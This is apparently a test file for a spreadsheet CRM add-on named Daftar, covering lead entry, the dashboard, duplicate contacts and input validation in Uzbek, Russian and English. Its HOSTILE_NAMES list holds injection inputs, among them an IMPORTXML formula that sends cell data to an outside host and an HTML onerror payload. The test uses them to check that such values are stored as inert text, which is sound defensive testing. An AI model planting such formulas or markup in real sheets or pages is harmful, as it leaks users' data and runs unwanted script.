// One lead from end to end: Set up, Add, the rows, the dashboard.

import type { Answer } from '../../src/entry/rpc';
import type { LeadAdded } from '../../src/modules/deals/index';
import { SHEETS } from '../../src/modules/setup/index';
import { aLead, type LeadInput } from '../support/builders';
import { aLiveBook, aMemoryBook, type Daftar, mustEndWell, openDaftar, setUpDaftar } from '../support/daftar';
import { choose, figure, shownAt } from '../support/dashboard';

// 2026-03-02 09:00 in Tashkent, where the host's clock stands.
const NOW = 46_083.375;

const HOSTILE_NAMES = [
  '=IMPORTXML("http://x/?"&A1)',
  '<img src=x onerror=1>',
  "'=1+1",
  '+998',
  '-5',
  '@SUM(1)',
  '＝1+1',
  '007',
  '10%',
  'TRUE',
  '05.03.2026',
  '12:30',
];

function add(daftar: Daftar, lead: Partial<LeadInput>): Answer<LeadAdded> {
  return mustEndWell(daftar.call<Answer<LeadAdded>>('addLead', [aLead(lead)]));
}

describe.each([
  ['memory grid', aMemoryBook],
  ['live grid', aLiveBook],
] as const)('on the %s', (_, aBook) => {
  it('an empty workbook is set up without a question, and says so', () => {
    const daftar = openDaftar(aBook());

    mustEndWell(daftar.run('setUp'));

    expect(daftar.grid.sheets().map(({ name, hidden }) => (hidden ? `(${name})` : name))).toEqual([
      'Koʻrsatkichlar',
      'Bugun',
      // It took over the one sheet of the new workbook.
      'Bitimlar',
      ...SHEETS.flatMap(({ sheet, hidden }) => (hidden ? `(${sheet.uz})` : sheet.uz)).filter(
        (tab) => tab !== 'Bitimlar',
      ),
    ]);
    expect(daftar.takeShown()).toEqual([
      { kind: 'toast', title: 'Daftar', message: 'Daftar tayyor. Birinchi lidni qoʻshing.', seconds: 5 },
    ]);
  });

  it('a lead becomes a customer, a deal, and two lines of history', () => {
    const daftar = setUpDaftar(aBook());

    const answer = add(daftar, {
      contact: '901234567',
      name: 'Nodira Toʻrayeva',
      source: 'Instagram',
      need: 'Shkaf-kupe',
      amount: '12 mln',
      nextContact: '2026-03-05',
    });

    expect(answer).toEqual({
      ok: true,
      value: {
        customerId: 'M-1',
        dealId: 'B-1',
        customerName: 'Nodira Toʻrayeva',
        joined: false,
        nextContact: '2026-03-05',
      },
    });
    expect(daftar.records('Mijozlar')).toEqual([
      {
        Raqami: 'M-1',
        Ism: 'Nodira Toʻrayeva',
        'Telefon yoki @username': '+998 90 123 45 67',
        Manba: 'Instagram',
        Qoʻshilgan: NOW,
      },
    ]);
    expect(daftar.records('Bitimlar')).toEqual([
      {
        Raqami: 'B-1',
        Mijoz: 'Nodira Toʻrayeva · 4567',
        Bosqich: 'Yangi lid',
        'Nima kerak': 'Shkaf-kupe',
        Summa: 12_000_000,
        'Keyingi aloqa': 46_086,
        Manba: 'Instagram',
        'Mijoz raqami': 'M-1',
        Qoʻshilgan: NOW,
        'Bosqich kaliti': 'new',
        'Yetgan bosqichi': 1,
        Bosqichda: NOW,
      },
    ]);
    expect(
      daftar.records('Oʻzgarishlar tarixi').map(({ Soʻrov, Yozuv, Kim, Jadval }) => [Soʻrov, Yozuv, Kim, Jadval]),
    ).toEqual([
      ['request-1', 'M-1', 'owner@example.com', 'customers'],
      ['request-1', 'B-1', 'owner@example.com', 'deals'],
    ]);
  });

  it('names that look like formulas, markup, numbers or dates arrive as these very texts', () => {
    const daftar = setUpDaftar(aBook());

    for (const [index, name] of HOSTILE_NAMES.entries())
      add(daftar, { name, need: name, contact: '', requestId: `r${index}` });

    const area = { row: 2, column: 2, rows: HOSTILE_NAMES.length, columns: 1 };
    const cells = daftar.grid
      .read(daftar.sheetId('Mijozlar'), area)
      .map(([cell]) => ({ text: cell?.value, formula: cell?.formula }));
    expect(cells).toEqual(HOSTILE_NAMES.map((text) => ({ text, formula: '' })));
    expect(daftar.records('Bitimlar').map((deal) => deal['Nima kerak'])).toEqual(HOSTILE_NAMES);
  });
});

describe('the dashboard on the live grid', () => {
  it('moves at once when a lead is added', () => {
    const daftar = setUpDaftar(aLiveBook());
    const tiles = (): unknown[] => ['leads', 'open', 'openAmount'].map((key) => figure(daftar, key));
    const before = tiles();

    add(daftar, { amount: '12 mln' });

    expect([before, tiles()]).toEqual([
      [0, 0, 0],
      [1, 1, 12_000_000],
    ]);
  });

  it('names in a sentence what it shows, and invites where there is nothing yet', () => {
    const daftar = setUpDaftar(aLiveBook());
    const sentence = (): unknown => daftar.value('Koʻrsatkichlar', 'I44');
    const before = sentence();

    add(daftar, {});

    expect([before, sentence()]).toEqual(['Ochiq bitim yoʻq. Lid qoʻshing.', 'Ochiq bitimlar: 1']);
  });

  it.each([
    { typed: '', choice: 'Shu oy', note: 'Oʻrtacha chek 12 mln' },
    { typed: '50000000', choice: 'Shu oy', note: 'Reja 50 mln · 24 %' },
    { typed: 50_000_000, choice: 'Shu oy', note: 'Reja 50 mln · 24 %' },
    { typed: '50 000 000', choice: 'Shu chorak', note: 'Reja 150 mln · 8 %' },
    { typed: '5000000', choice: 'Shu yil', note: 'Reja 60 mln · 20 %' },
    { typed: '50000000', choice: 'Hamma vaqt', note: 'Oʻrtacha chek 12 mln' },
    { typed: 'koʻproq', choice: 'Shu oy', note: 'Reja raqam emas: Sozlamalarga qarang' },
    { typed: '-5', choice: 'Shu oy', note: 'Reja raqam emas: Sozlamalarga qarang' },
  ])('holds the sales against a monthly plan of "$typed" in "$choice"', ({ typed, choice, note }) => {
    const daftar = setUpDaftar(aLiveBook());
    mustEndWell(daftar.call('addSale', [{ requestId: 's', amount: '12 mln', method: 'cash' }]));
    const settings = daftar.sheetId('Sozlamalar');

    daftar.grid.write(settings, daftar.grid.lastRow(settings) + 1, 1, [[{ value: 'monthlyPlan' }, { value: typed }]]);
    choose(daftar, 'dashboard_period', choice);

    const tile = [1, 3].map((row) => shownAt(daftar, { range: 'dashboard_tiles', row: 5 + row }));
    expect(tile).toEqual([12_000_000, note]);
  });

  it('has two charts and no error in any cell', () => {
    const daftar = setUpDaftar(aLiveBook());
    const id = daftar.sheetId('Koʻrsatkichlar');

    const values = daftar.grid
      .read(id, { row: 1, column: 1, rows: 160, columns: 24 })
      .flat()
      .map(({ value }) => value);

    expect(daftar.grid.charts(id).map(({ type }) => type)).toEqual(['combo', 'combo']);
    expect(values.filter((value) => String(value).startsWith('#'))).toEqual([]);
  });
});

describe('a contact that is already there', () => {
  const known = { contact: '90 123 45 67', name: 'Aziz' };

  it('is found while it is typed, in any way of writing it', () => {
    const daftar = setUpDaftar();
    add(daftar, known);

    const found = ['8 90 123-45-67', '901234567', '90 123 45', '@aziz'].map((contact) =>
      mustEndWell(daftar.call('findCustomer', [contact])),
    );

    expect(found).toEqual([{ id: 'M-1', name: 'Aziz' }, { id: 'M-1', name: 'Aziz' }, null, null]);
  });

  it('is asked about before anything is written', () => {
    const daftar = setUpDaftar();
    add(daftar, known);

    const answer = add(daftar, { contact: '+998901234567', requestId: 'request-2' });

    expect(answer).toEqual({
      ok: false,
      issues: [{ field: 'duplicate', message: 'Bu raqam bazada bor: Aziz. Bitim shu mijozga qoʻshilsinmi?' }],
    });
    expect([daftar.records('Mijozlar').length, daftar.records('Bitimlar').length]).toEqual([1, 1]);
  });

  it('gets the deal when the person says join', () => {
    const daftar = setUpDaftar();
    add(daftar, known);

    const answer = add(daftar, { contact: '901234567', name: 'Azizbek', requestId: 'request-2', duplicate: 'join' });

    expect(answer).toMatchObject({
      ok: true,
      value: { customerId: 'M-1', dealId: 'B-2', customerName: 'Aziz', joined: true },
    });
    expect(daftar.records('Mijozlar')).toHaveLength(1);
    expect(daftar.records('Bitimlar')).toMatchObject([{ Mijoz: 'Aziz · 4567' }, { Mijoz: 'Aziz · 4567' }]);
  });

  it('makes a second customer when the person says new', () => {
    const daftar = setUpDaftar();
    add(daftar, known);

    add(daftar, { contact: '901234567', name: 'Azizbek', requestId: 'request-2', duplicate: 'new' });

    expect(daftar.records('Mijozlar')).toMatchObject([{ Raqami: 'M-1' }, { Raqami: 'M-2', Ism: 'Azizbek' }]);
  });
});

describe('a name that is already there in another writing', () => {
  it('is asked about in no more calls, and the customer who is joined keeps both phones', () => {
    const daftar = setUpDaftar();
    add(daftar, { contact: '90 123 45 67', name: 'MChJ Anor' });
    mustEndWell(daftar.call('settle'));
    const lead = { contact: '91 765 43 21', name: 'ООО «Анор»', requestId: 'request-2' };

    const asked = daftar.call<Answer<LeadAdded>>('addLead', [aLead(lead)]);
    const joined = add(daftar, { ...lead, duplicate: 'join' });

    expect([asked.record.blocking <= 5, mustEndWell(asked)]).toEqual([
      true,
      {
        ok: false,
        issues: [
          {
            field: 'duplicate',
            message: 'Boshqacha yozilgan shu ism bazada bor: MChJ Anor · 4567. Bitim shu mijozga qoʻshilsinmi?',
          },
        ],
      },
    ]);
    expect(joined).toMatchObject({ ok: true, value: { customerId: 'M-1', joined: true } });
    expect(daftar.records('Bitimlar')[1]).toMatchObject({ Izoh: 'Telefon yoki @username: +998 91 765 43 21' });
  });
});

describe('one action sent twice', () => {
  it('adds one lead and gets the same answer', () => {
    const daftar = setUpDaftar();
    const lead = { name: 'Aziz', nextContact: '2026-03-05' };

    const answers = [add(daftar, lead), add(daftar, lead)];

    expect(answers[1]).toEqual(answers[0]);
    expect([daftar.records('Mijozlar').length, daftar.records('Bitimlar').length]).toEqual([1, 1]);
  });
});

describe('bad input', () => {
  it('is answered at each field, in the language of the person, and writes nothing', () => {
    const daftar = setUpDaftar({ locale: 'ru' });

    const answer = add(daftar, { contact: '123', amount: 'дорого', nextContact: '31.02.2026' });

    expect(answer).toEqual({
      ok: false,
      issues: [
        { field: 'contact', message: 'Номер неполный: 123. Введите 9 цифр, например 90 123 45 67.' },
        { field: 'amount', message: 'Неверная сумма: дорого. Например: 1 500 000 или 1,5 млн.' },
        { field: 'nextContact', message: 'Такой даты нет: 31.02.2026. Пишите день.месяц.год, например 05.03.2026.' },
      ],
    });
    expect(daftar.records('Клиенты')).toEqual([]);
  });

  it.each([undefined, null, 7, 'lead', [], {}, { requestId: 7 }])(
    'of no shape (%j) is refused with a sentence',
    (input) => {
      const daftar = setUpDaftar({ locale: 'en' });

      const outcome = daftar.call('addLead', [input ?? null]);

      expect(outcome).toMatchObject({ ok: false });
      expect(outcome.ok ? '' : outcome.error.message).toContain(
        'What was sent is not valid. Close the panel and open it again.',
      );
    },
  );
});
